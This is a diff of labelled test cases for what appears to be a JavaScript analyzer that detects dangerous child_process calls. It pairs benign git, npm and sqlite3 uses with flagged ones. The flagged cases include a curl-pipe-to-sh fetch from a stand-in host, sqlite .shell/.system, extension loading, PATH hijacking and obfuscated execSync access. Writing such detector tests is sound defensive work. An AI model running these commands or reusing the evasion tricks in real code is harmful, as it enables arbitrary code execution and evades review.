@@ -353,3 +353,140 @@ const { execFileSync } = require('child_process');
 execFileSync('docker', ['ps', '--format', '{{json .}}']);
 //@ neg an IIFE given the global object
 (function (root) { root.lib = { version: 1 }; })(this);
+//@ neg sqlite3 with a query and migrations on its input
+const { execFileSync } = require('child_process');
+const body = require('fs').readFileSync('migrations/0001_init.sql', 'utf8');
+execFileSync('sqlite3', ['-batch', './app.db'], { input: `BEGIN;\n${body}\nCOMMIT;` });
+execFileSync('sqlite3', ['./app.db', 'SELECT count(*) FROM notes']);
+//@ pos sqlite3 with a dot-command that runs a program
+const { execFileSync } = require('child_process');
+execFileSync('sqlite3', [':memory:', '.shell curl -s http://x.example/p | sh']);
+//@ pos sqlite3 fed .system on its input
+const { execFileSync } = require('child_process');
+execFileSync('sqlite3', ['app.db'], { input: 'SELECT 1;\n.system id' });
+//@ pos sqlite3 loading an extension through SQL
+const { spawnSync } = require('child_process');
+spawnSync('sqlite3', [':memory:', "SELECT load_extension('/tmp/x.so')"]);
+//@ pos sqlite3 with -cmd
+const { spawnSync } = require('child_process');
+spawnSync('sqlite3', ['-cmd', '.load /tmp/x', 'app.db']);
+//@ pos execSync taken from the module's property descriptors
+const d = Object.getOwnPropertyDescriptors(require('child_process'));
+d['exec' + 'Sync'].value('id');
+//@ pos the shorthand { env } of a copy that sets PATH
+const { spawnSync } = require('child_process');
+const env = { ...process.env, PATH: '/tmp/bin' };
+spawnSync('git', ['status'], { env });
+//@ pos the shorthand { env } of a copy whose PATH is set afterwards
+const { spawnSync } = require('child_process');
+const env = Object.assign({}, process.env);
+env.PATH = '/tmp/bin';
+spawnSync('git', ['status'], { env });
+//@ pos { env } from a value the analysis cannot read
+const { spawnSync } = require('child_process');
+const env = JSON.parse(process.argv[2]);
+spawnSync('git', ['status'], { env });
+//@ neg { env: env } and { env } of a copy that keeps PATH
+const { spawnSync, execFileSync } = require('child_process');
+const env = { ...process.env, CI: '1', NO_COLOR: undefined };
+env.FORCE_COLOR = '0';
+console.log(Object.keys(env).length);
+spawnSync('git', ['status'], { env: env });
+execFileSync('npm', ['test'], { env, stdio: 'inherit' });
+//@ pos { env } of a parameter one of whose calls sets PATH
+const { spawn } = require('child_process');
+function npmTest(cwd, env) {
+  return spawn('npm', ['test'], { cwd, env });
+}
+npmTest('.', { ...process.env, CI: '1' });
+npmTest('..', { ...process.env, PATH: '/tmp/bin' });
+//@ pos { env } changed by a helper that sets PATH
+const { spawn } = require('child_process');
+function tweak(e) {
+  e.PATH = '/tmp/bin';
+}
+const env = { ...process.env };
+tweak(env);
+spawn('npm', ['test'], { env });
+//@ pos { env } handed to a callback, whose arguments are out of sight
+const { spawnSync } = require('child_process');
+function run(cwd, env) {
+  spawnSync('git', ['status'], { cwd, env });
+}
+['a', 'b'].forEach(run);
+//@ neg { env } made by helpers, passed through a parameter
+const { spawn, execFile } = require('child_process');
+function childEnv(extra) {
+  return { ...process.env, CI: 'true', FORCE_COLOR: '0', ...extra };
+}
+function npmEnv() {
+  const env = structuredClone(process.env);
+  env.npm_config_fund = 'false';
+  env.GIT_TERMINAL_PROMPT = '0';
+  delete env.NODE_OPTIONS;
+  return env;
+}
+function npmTest(cwd, env) {
+  return spawn('npm', ['test', '--silent'], { cwd, env });
+}
+(async () => {
+  for (const pkg of ['a', 'b']) {
+    const env = childEnv({ NODE_V8_COVERAGE: pkg + '/coverage' });
+    await npmTest(pkg, env);
+  }
+  const env = npmEnv();
+  execFile('npm', ['outdated', '--json'], { env }, () => {});
+})();
+//@ pos the module kept in a Map built from an array of pairs
+const m = new Map([['k', require('child_process')]]);
+m.get('k').execSync('id');
+//@ pos a JSFuck-style chain of subscripts from [].filter.constructor
+[]['filter']['constructor']('return this')()['process']['mainModule']['require']('child_process')['execSync']('id');
+//@ pos { env: f() } where f returns a copy that sets PATH
+const { spawn } = require('child_process');
+function childEnv() {
+  return { ...process.env, PATH: '/tmp/bin' };
+}
+spawn('npm', ['test'], { env: childEnv() });
+//@ neg { env: f() } where f returns a copy that keeps PATH
+const { spawn } = require('child_process');
+const childEnv = () => ({ ...process.env, CI: 'true', FORCE_COLOR: '0' });
+spawn('npm', ['test'], { env: childEnv() });
+//@ pos git's arguments in a name, with a -c alias that runs the shell
+const { spawnSync } = require('child_process');
+const args = ['-c', 'alias.x=!sh -c id', 'x'];
+spawnSync('git', args);
+//@ pos node -e spread into the arguments
+const { spawnSync } = require('child_process');
+const extra = ['-e', 'process.exit(0)'];
+spawnSync('node', ['--no-warnings', ...extra]);
+//@ pos a program named by a destructured loop variable, one of them a shell
+const { spawnSync } = require('child_process');
+for (const [cmd, args] of [['git', ['status']], ['sh', ['-c', 'id']]]) spawnSync(cmd, args);
+//@ neg programs named by a destructured loop variable over ordinary tools
+const { spawnSync } = require('child_process');
+const steps = [
+  { cmd: 'git', args: ['status', '--short'] },
+  { cmd: 'npm', args: ['test', '--silent'] },
+];
+for (const { cmd, args } of steps) spawnSync(cmd, args, { stdio: 'inherit' });
+//@ neg a git wrapper whose arguments are ordinary
+const { execFileSync } = require('child_process');
+function git(args) {
+  return execFileSync('git', args, { encoding: 'utf8' });
+}
+git(['log', '--pretty=format:%h%x09%s', 'a..b']);
+git(['status', '--short']);
+//@ neg git and tar flags that only look like other tools' doors (-p, -u, -c)
+const { execFileSync } = require('child_process');
+execFileSync('git', ['log', '-p', '-1']);
+execFileSync('git', ['push', '-u', 'origin', 'main']);
+execFileSync('tar', ['-c', '-f', '/tmp/out.tar', 'dist']);
+execFileSync('npm', ['init', '-y']);
+//@ pos git submodule foreach runs a command
+const { execFileSync } = require('child_process');
+execFileSync('git', ['submodule', 'foreach', 'sh -c id']);
+//@ pos npm exec with its arguments in a name
+const { execFileSync } = require('child_process');
+const args = ['exec', '--yes', 'some-package'];
+execFileSync('npm', args);
